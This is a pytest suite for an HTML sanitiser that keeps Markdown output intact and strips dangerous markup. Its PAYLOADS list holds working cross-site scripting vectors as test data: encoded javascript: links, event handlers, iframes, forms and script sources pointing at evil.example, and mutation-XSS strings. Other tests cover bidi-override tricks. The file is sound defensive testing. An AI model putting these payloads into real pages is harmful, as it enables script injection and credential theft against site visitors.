"""The allowlist: Markdown's own output survives byte for byte; anything that can run code does not."""

import re

import pytest
from content_safety.sanitiser import Sanitiser, removed, sanitise
from markdown import Markdown
from markupsafe import Markup

# Everything Python-Markdown writes with the site's extensions (extra, toc): headings with ids, lists,
# tables, footnotes with their ids, classes and back-links, images, links, abbreviations, definition
# lists, code, quotes and a <details> block written as raw HTML.
REPRESENTATIVE = """\
## A heading & more

Some *emphasis*, **strong**, `code <b>`, an [internal link](../about/ "About"), a [fragment](#a-heading-more)
and an email [to us](mailto:communications@example.nhs.uk). 5 < 6 > 4 & so on; "quotes" and ‘curly’ ones – dashes.

![Volunteers planting the ward garden](../images/ward-garden.svg "The ward garden")

- one
- two
    - nested

Steps:

1. first
2. second

> A quotation
> over two lines.

| Service | Year |
| ------- | ---- |
| Life Rooms | 2017 |

Here is a footnote[^1]. The HTML spec is kept by the W3C.

*[HTML]: Hyper Text Markup Language
*[W3C]: World Wide Web Consortium

Term
: Definition

```python
print("<hi>")
```

<details>
<summary>Read the transcript</summary>

Inside the details.

</details>

### A third-level heading { #custom-id }

---

[^1]: The footnote text.
"""

PAYLOADS = [
    ("<script>alert(1)</script>", "<script"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil.example"),
    ('<p onclick="steal()">Press</p>', "onclick"),
    ('<img src="x.png" onerror="steal()" alt="x">', "onerror"),
    ('<a href="javascript:alert(1)">report</a>', "javascript:"),
    ('<a href="JaVaScRiPt:alert(1)">report</a>', "alert(1)"),
    ('<a href="java&#x09;script:alert(1)">report</a>', "alert(1)"),
    ('<a href="&#106;avascript:alert(1)">report</a>', "alert(1)"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">report</a>', "data:"),
    ("<style>body { display: none }</style>", "display: none"),
    ('<p style="background: url(https://evil.example/track)">x</p>', "style="),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe"),
    ('<form action="https://evil.example/"><input name="password"><button>Go</button></form>', "<form"),
    ("<svg><script>alert(1)</script></svg>", "<svg"),
    ('<object data="https://evil.example/x.swf"></object>', "<object"),
    ('<embed src="https://evil.example/x.swf">', "<embed"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "refresh"),
    ('<base href="https://evil.example/">', "<base"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "onerror"),
    ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "onerror"),
    ('<div class="app-header">Fake header</div>', "app-header"),
]


def markdown(text):
    md = Markdown(extensions=["markdown.extensions.extra", "markdown.extensions.toc"], output_format="html5")
    return md.convert(text)


def spelling(html):
    """The three character references html5 serialisers write differently from Python-Markdown."""
    return html.replace("&#160;", "\u00a0").replace("&#8617;", "\u21a9").replace("&quot;", '"')


def test_markdown_output_survives_byte_for_byte():
    html = markdown(REPRESENTATIVE)
    assert 'class="footnote-ref"' in html and "<details>" in html and '<abbr title=' in html  # the sample is rich
    cleaned = sanitise(html)
    # Table alignment is the only other change (see the next test); the sample has none.
    assert cleaned.replace("\u00a0", "&nbsp;") == spelling(html).replace("\u00a0", "&nbsp;")
    assert removed(html) == []


def test_table_alignment_becomes_a_class_because_the_csp_blocks_style_attributes():
    html = markdown("| Left | Right | Middle |\n| :--- | ----: | :----: |\n| a | b | c |\n")
    cleaned = sanitise(html)
    assert "style=" not in cleaned
    assert '<th class="app-align-right">Right</th>' in cleaned
    assert '<td class="app-align-center">c</td>' in cleaned
    assert removed(html) == []


@pytest.mark.parametrize(("payload", "marker"), PAYLOADS, ids=[p[0][:40] for p in PAYLOADS])
def test_dangerous_html_is_removed_and_reported(payload, marker):
    cleaned = sanitise(f"<p>Before</p>\n{payload}\n<p>After</p>")
    assert marker.lower() not in cleaned.lower()
    assert cleaned.startswith("<p>Before</p>")  # an unclosed raw-text element may swallow what follows it
    assert removed(payload), payload


def test_dangerous_markdown_is_removed():
    html = markdown('[report](javascript:alert(1)) and a paragraph\n{: onclick="alert(2)" style="color: red" }\n')
    cleaned = sanitise(html)
    assert "javascript" not in cleaned and "onclick" not in cleaned and "style" not in cleaned
    assert cleaned == "<p><a>report</a> and a paragraph</p>"
    assert removed(html) == [
        "onclick=... attribute on <p>", "style=... attribute on <p>", '"javascript:" address in <a href>',
    ]


def test_removed_describes_each_thing_once_in_order():
    html = '<script>x</script><p onclick="a()">1</p><p onclick="b()">2</p><iframe src="x"></iframe><form></form>'
    assert removed(html) == [
        "<script> element and everything inside it", "onclick=... attribute on <p>",
        "<iframe> element and everything inside it", "<form> element",
    ]


def test_external_links_get_noopener_and_internal_links_stay_as_written():
    html = ('<p><a href="https://example.org/a?b=1&amp;c=2" title="a&gt;b">out</a> <a href="//cdn.example/x">cdn</a> '
            '<a href="../about/">in</a> <a href="{filename}/blog/2017/x.md#part">file</a> <a href="#fn:1">note</a></p>')
    cleaned = sanitise(html)
    assert '<a href="https://example.org/a?b=1&amp;c=2" title="a&gt;b" rel="noopener">out</a>' in cleaned
    assert '<a href="//cdn.example/x" rel="noopener">cdn</a>' in cleaned
    assert '<a href="../about/">in</a>' in cleaned
    assert '<a href="{filename}/blog/2017/x.md#part">file</a>' in cleaned
    assert '<a href="#fn:1">note</a>' in cleaned


def test_an_author_cannot_choose_rel_or_target():
    cleaned = sanitise('<a href="https://example.org" rel="opener" target="_blank">x</a>')
    assert cleaned == '<a href="https://example.org" rel="noopener">x</a>'


def test_sanitising_is_idempotent():
    html = sanitise(markdown(REPRESENTATIVE) + "".join(p for p, _ in PAYLOADS))
    assert sanitise(html) == html
    assert removed(html) == []


def test_metadata_is_kept_as_the_text_that_was_typed():
    s = Sanitiser()
    assert s.metadata_text("title", "Why <em>we</em> care &amp; <!--") == "Why <em>we</em> care &amp; <!--"
    assert s.metadata_text("title", "Fish & chips") == "Fish & chips"
    assert s.metadata_text("title", "") == ""


def test_metadata_loses_control_characters_and_noncharacters():
    s = Sanitiser()
    assert s.metadata_text("venue", "A\x00B\x1bC\x7fD\x85E\ufffeF\U0010ffffG\tH") == "ABCDEFG\tH"
    assert s.metadata_text("title", "RTL \u202b and \U0001f331 stay\u202c") == "RTL  and \U0001f331 stay"


# A reader sees the letters in the order the file holds them, so the checks that read the file (an anonymous writer's
# real name) read what readers see: nothing shows text backwards (<bdo>, the override characters) or lifts text out of
# a word (<ruby> puts <rt> above it and hides <rp>, so "Phil<rt> </rt>ippa" shows "Philippa").
@pytest.mark.parametrize(
    ("html", "shown"),
    [
        ('<p><bdo dir="rtl">ayudO appilihP</bdo></p>', "<p>ayudO appilihP</p>"),
        ('<p><bdo dir="ltr">\u05d0\u05d1</bdo></p>', "<p>\u05d0\u05d1</p>"),
        ("<p>\u202eayudO appilihP\u202c and \u202dtwo\u202c</p>", "<p>ayudO appilihP and two</p>"),
        ("<p><ruby>Phil<rt> </rt>ippa</ruby> <ruby>Phil<rp>zz</rp>ippa</ruby></p>", "<p>Phil ippa Philzzippa</p>"),
    ],
    ids=["bdo-rtl", "bdo-ltr", "override-characters", "ruby"],
)
def test_nothing_shows_text_in_another_order_or_place_than_it_is_written(html, shown):
    assert sanitise(html) == shown


def test_metadata_loses_the_characters_that_show_text_backwards():
    assert Sanitiser().metadata_text("title", "\u202eayudO\u202c \u202dx\u2067y\u200f") == "ayudO xy"


def test_direction_overrides_and_ruby_are_named_as_removed():
    found = removed('<p><bdo dir="rtl">a</bdo> <ruby>b<rp>(</rp><rt>c</rt><rp>)</rp></ruby></p>')
    assert found == ["<bdo> element", "<ruby> element", "<rp> element", "<rt> element"]


def test_a_summary_is_its_text_escaped_once():
    s = Sanitiser()
    summary = s.metadata_text("Summary", 'Hi &lt;meta http-equiv="refresh"&gt; <!-- \x1b')
    assert isinstance(summary, Markup)
    assert summary == "Hi &amp;lt;meta http-equiv=&#34;refresh&#34;&amp;gt; &lt;!-- "
    assert s.metadata_text("summary", summary) is summary  # a second pass changes nothing


def test_sms_and_tel_links_are_kept():
    html = '<p><a href="sms:+447700900123">text us</a> <a href="tel:116123">call</a></p>'
    assert sanitise(html) == html
    assert removed(html) == []


def test_emoji_and_right_to_left_text_survive():
    html = '<p dir="rtl" lang="ar">مرحبا بكم 🌱 עברית</p><ul dir="rtl"><li>א</li></ul><h2 dir="auto">x</h2>'
    assert sanitise(html) == html
    assert removed(html) == []


# Inside a right-to-left block, words set apart by an inline direction (dir= on a <span>, <bdi>) or an invisible
# direction character are shown in the reverse of their written order, so "Oduya-Marchbanks Philippa" showed as the
# name (checked in Chromium). A whole block keeps its direction; nothing inside it can set one.
@pytest.mark.parametrize(
    ("html", "shown"),
    [
        ('<p dir="rtl"><bdi>Oduya</bdi>-<span dir="ltr">Marchbanks</span> <em dir="rtl">P</em></p>',
         '<p dir="rtl">Oduya-<span>Marchbanks</span> <em>P</em></p>'),
        ("<p>\u2067Oduya\u200f-\u202bMarchbanks\u202c\u200e \u2068Philippa\u2069\u061c\u202a\u2066</p>",
         "<p>Oduya-Marchbanks Philippa</p>"),
    ],
    ids=["inline-directions", "direction-characters"],
)
def test_no_direction_is_set_inside_a_block(html, shown):
    assert sanitise(html) == shown


def test_inline_directions_are_named_as_removed():
    assert removed('<p><bdi>a</bdi> <span dir="rtl">b</span></p>') == ["<bdi> element", "dir=... attribute on <span>"]


def test_a_configured_extra_element_is_kept():
    s = Sanitiser({"extra_tags": ["address"], "extra_attributes": {"td": ["lang"]}})
    assert s.sanitise("<address>Bootle</address>") == "<address>Bootle</address>"
    assert re.search(r'<td lang="cy">', s.sanitise('<table><tr><td lang="cy">x</td></tr></table>'))


# nh3 checks the scheme of links and pictures only; a quotation's source is an address too, and the check says
# that one with another scheme "will be removed", so the build removes it.
@pytest.mark.parametrize("html", ['<blockquote cite="javascript:alert(1)">q</blockquote>',
                                  '<p><q cite=" JaVa\tScript:alert(1)">q</q></p>',
                                  '<p><del cite="data:text/html,x">a</del><ins cite="vbscript:x">b</ins></p>'])
def test_a_quotations_source_address_keeps_to_the_allowed_schemes(html):
    assert removed(html)
    assert "cite=" not in sanitise(html)
    assert sanitise('<blockquote cite="https://example.org/talk">q</blockquote>') == (
        '<blockquote cite="https://example.org/talk">q</blockquote>')
